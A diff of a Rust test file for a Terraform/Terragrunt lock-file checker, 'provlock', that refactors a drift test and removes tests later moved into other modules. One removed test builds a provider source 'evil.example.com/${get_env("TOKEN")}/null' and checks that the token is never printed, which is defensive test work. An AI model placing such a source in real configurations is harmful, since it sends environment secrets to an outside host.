@@ -1,12 +1,15 @@
 //! Root modules that Terragrunt puts together, and lock files without a configuration beside them.
 
+mod remote;
+mod variables;
+
 use super::json_output::validated;
 use super::lock::{entry, lock_file, requires};
 use super::repository::Repository;
 use provlock_test::environment::Output;
 use provlock_test::publish::Published;
 use provlock_test::registry::Registry;
-use provlock_test::{TestEnvironment, str, with_slashes};
+use provlock_test::{TestEnvironment, str};
 
 const LOCK_ALL: [&str; 4] = ["lock", "-p", "linux_amd64", "-r"];
 
@@ -142,10 +145,9 @@ Locked 2 root modules: 2 changed, 0 up to date; [SIZE] downloaded
     assert_eq!(verify(&environment), Vec::<String>::new());
 }
 
-#[test]
-fn drift_of_units_is_found_where_it_can_be_fixed() {
-    let providers = Providers::publish();
-    let Providers { null, random, tls, .. } = &providers;
+/// Two units whose lock files differ from what they require.
+fn drifted() -> Repository {
+    let Providers { null, random, tls, .. } = &Providers::publish();
     let repository = Repository::new();
     let environment = &repository.environment;
     local_layout(environment);
@@ -153,8 +155,12 @@ fn drift_of_units_is_found_where_it_can_be_fixed() {
     environment.write("live/prod/app/.terraform.lock.hcl", app);
     environment.write("live/prod/dns/.terraform.lock.hcl", Providers::lock_file(&[(null, ""), (tls, "")]));
     repository.git(["add", "."]);
+    repository
+}
 
-    environment.provlock(["verify", "--allow", "single-platform", "-r"]).matches(str![[r#"
+#[test]
+fn drift_of_units_is_found_where_it_can_be_fixed() {
+    drifted().environment.provlock(["verify", "--allow", "single-platform", "-r"]).matches(str![[r#"
 exit code: 1
 ----- stdout -----
 warning[constraints-differ]: the lock file records the constraints "~> 2.0" for hashicorp/random, but the configuration has "~> 3.0"
@@ -188,8 +194,13 @@ help: provlock -C live/prod/dns lock
 ----- stderr -----
 2 root modules: 1 with errors, 1 with warnings
 "#]]);
+}
 
-    environment
+#[test]
+fn drift_of_the_unit_in_the_current_directory_is_found() {
+    let repository = drifted();
+    repository
+        .environment
         .command(["verify", "--allow", "provider-not-required,single-platform"])
         .run_in("live/prod/dns")
         .run()
@@ -412,133 +423,5 @@ Terragrunt would keep using the older lock file in .terragrunt-cache: delete tha
 exit code: 0
 ----- stderr -----
 Up to date: 1 provider for linux_amd64
-"#]]);
-}
-
-#[test]
-fn a_variable_of_the_environment_chooses_and_is_never_shown() {
-    let mut environment = TestEnvironment::new();
-    environment.set("STAGE", "prod");
-    environment.set("TOKEN", "t0ken");
-    let choice = "get_env(\"STAGE\") == \"prod\" ? \"../modules//app\" : \"../modules//none\"";
-    let provider = "provider \"null\" {\n  region = \"${get_env(\"TOKEN\")}\"\n}\n";
-    let source = format!("terraform {{\n  source = {choice}\n}}\n");
-    environment.write("unit/terragrunt.hcl", source.clone() + &generate("provider", provider));
-    environment.write("modules/app/main.tf", "resource \"tls_private_key\" \"a\" {}\n");
-    environment.write("unit/.terraform.lock.hcl", lock_file(&[]));
-    let verify = || environment.provlock(["verify", "--allow", "single-platform", "-r", "-v"]);
-    verify().assert_lacks("t0ken").matches(str![[r#"
-exit code: 1
------ stdout -----
-error[provider-not-locked]: hashicorp/tls is required, but not locked
- --> modules/app/main.tf:1:10
-  |
-1 | resource "tls_private_key" "a" {}
-  |          ^^^^^^^^^^^^^^^^^ required here
-  |
-help: provlock -C unit lock
-
-error[provider-not-locked]: hashicorp/null is required, but not locked
- --> unit/terragrunt.hcl:4:1
-  |
-4 | generate "provider" {
-  | ^^^^^^^^ required here
-  |
-help: provlock -C unit lock
-
------ stderr -----
-unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
-2 errors in modules/app/main.tf and unit/terragrunt.hcl
-"#]]);
-
-    let leak = requires("evil.example.com/${get_env(\"TOKEN\")}/null", "");
-    environment.write("unit/terragrunt.hcl", source + &generate("provider", &leak));
-    verify().assert_lacks("t0ken").matches(str![[r#"
-exit code: 1
------ stdout -----
-error[provider-not-locked]: hashicorp/tls is required, but not locked
- --> modules/app/main.tf:1:10
-  |
-1 | resource "tls_private_key" "a" {}
-  |          ^^^^^^^^^^^^^^^^^ required here
-  |
-help: provlock -C unit lock
-
-warning[requirements-not-known]: what the unit in unit requires is not known in full
- --> unit/terragrunt.hcl:4:1
-  |
-4 | generate "provider" {
-  | ^^^^^^^^ a variable of the environment is only compared, never shown
-  |
-  = unused entries and differing constraints are not reported
-help: terragrunt init -lockfile=readonly checks the whole
-
------ stderr -----
-unit: dialect tofu (the lock file); checked 0 providers for no platform, as none is named
-1 error and 1 warning in modules/app/main.tf and unit/terragrunt.hcl
-"#]]);
-}
-
-/// Runs git in a directory of the test.
-fn git<const N: usize>(environment: &TestEnvironment, directory: &std::path::Path, arguments: [&str; N]) {
-    let who = ["-c", "user.name=Test", "-c", "user.email=test@example.com", "-c", "init.defaultBranch=main"];
-    environment.program("git", who.into_iter().chain(arguments)).run_in(directory).run().assert_code(0);
-}
-
-#[test]
-fn a_remote_module_is_fetched_and_what_it_calls_is_read() {
-    let providers = Providers::publish();
-    let Providers { null, random, tls, .. } = &providers;
-    let environment = TestEnvironment::with_registry(&providers.registry);
-    let modules = environment.root().join("modules");
-    let main = "module \"name\" {\n  source = \"../name\"\n}\nresource \"null_resource\" \"a\" {}\n";
-    environment.write(modules.join("app/main.tf"), main);
-    environment.write(modules.join("app/provider.tf"), "provider \"replaced\" {}\n");
-    environment.write(modules.join("name/main.tf"), requires("hashicorp/tls", "~> 4.0"));
-    git(&environment, &modules, ["init", "--quiet"]);
-    git(&environment, &modules, ["add", "."]);
-    git(&environment, &modules, ["commit", "--quiet", "--message=m"]);
-    git(&environment, &modules, ["tag", "v1"]);
-    environment.write("root.hcl", generate("provider", &requires("hashicorp/random", "~> 3.0")));
-    let directory = with_slashes(modules.to_str().unwrap());
-    let source = format!("git::file:///{}//app?ref=v1", directory.trim_start_matches('/'));
-    environment.write("live/app/terragrunt.hcl", unit(&source));
-    environment.write("live/app/.terraform.lock.hcl", "");
-
-    environment.provlock(LOCK_ALL).matches(str![[r#"
-exit code: 0
------ stderr -----
-  + hashicorp/null     3.2.4   signed, key ID 558D46FBE8647CB4   1 h1, 2 zh   in live/app
-  + hashicorp/random   3.7.2   signed, key ID 558D46FBE8647CB4   1 h1, 2 zh   in live/app
-  + hashicorp/tls      4.1.0   signed, key ID 558D46FBE8647CB4   1 h1, 2 zh   in live/app
-Locked 1 root module: 1 changed, 0 up to date; [SIZE] downloaded
-"#]]);
-
-    let locked = Providers::lock_file(&[(null, ""), (random, "~> 3.0"), (tls, "~> 4.0")]);
-    assert_eq!(environment.read("live/app/.terraform.lock.hcl"), locked);
-    assert_eq!(verify(&environment), Vec::<String>::new());
-    environment.write("live/app/.terraform.lock.hcl", Providers::lock_file(&[(null, "~> 3.0"), (random, "~> 3.0")]));
-    environment.provlock(["verify", "--allow", "single-platform", "-r"]).matches(str![[r#"
-exit code: 1
------ stdout -----
-warning[constraints-differ]: the lock file records the constraints "~> 3.0" for hashicorp/null, but the configuration has none
- --> live/app/.terraform.lock.hcl:6:17
-  |
-6 |   constraints = "~> 3.0"
-  |                 ^^^^^^^^
-  |
-  = the locked version 3.2.4 meets the constraints of the configuration
-help: provlock -C live/app lock
-
-error[provider-not-locked]: hashicorp/tls is required, but not locked
- --> git::file:[..]/modules?ref=v1//name/main.tf:5:17
-  |
-5 |       version = "~> 4.0"
-  |                 ^^^^^^^^ required here
-  |
-help: provlock -C live/app lock
-
------ stderr -----
-1 error and 1 warning in git::file://[ROOT]/modules?ref=v1//name/main.tf and live/app/.terraform.lock.hcl
 "#]]);
 }
